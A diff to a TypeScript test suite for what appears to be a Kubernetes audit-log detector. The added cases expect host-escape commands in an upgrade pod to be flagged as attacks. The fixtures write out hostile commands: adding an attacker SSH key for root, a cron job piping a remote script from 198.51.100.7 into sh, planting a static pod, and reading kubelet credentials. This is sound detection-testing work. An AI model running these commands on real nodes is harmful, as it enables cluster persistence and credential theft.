@@ -83,4 +83,15 @@ describe('pods gone from the snapshot, known from their creation in the audit lo
   it('trap: a naked pod someone created and removed', () => {
     expect(verdict(inPod(N2, naked.name!, '10:05:00', 'cp /tmp/x /host/usr/local/bin/kubelet')).label).toBe('genuine');
   });
+  // The same upgrade pod, the same writable host mount: persistence and credential theft through it stay attacks.
+  for (const [what, cmd] of [
+    ['an SSH key added for root', "sh -c 'echo ssh-ed25519 AAAAC3Nz attacker >> /host/root/.ssh/authorized_keys'"],
+    ['a cron job dropped on the host', "sh -c 'echo \"* * * * * root curl -s http://198.51.100.7/x | sh\" > /host/etc/cron.d/update'"],
+    ['a static pod dropped into the kubelet manifests', 'cp /tmp/pod.yaml /host/etc/kubernetes/manifests/kube-proxy-x.yaml'],
+    ["the node's kubelet credentials read", 'cat /host/var/lib/kubelet/pki/kubelet-client-current.pem'],
+  ] as const) {
+    it(`trap: ${what} through the upgrade pod's own host mount`, () => {
+      expect(verdict(inPod(N1, upgrade.name!, '09:03:41', cmd))).toMatchObject({ label: 'genuine' });
+    });
+  }
 });
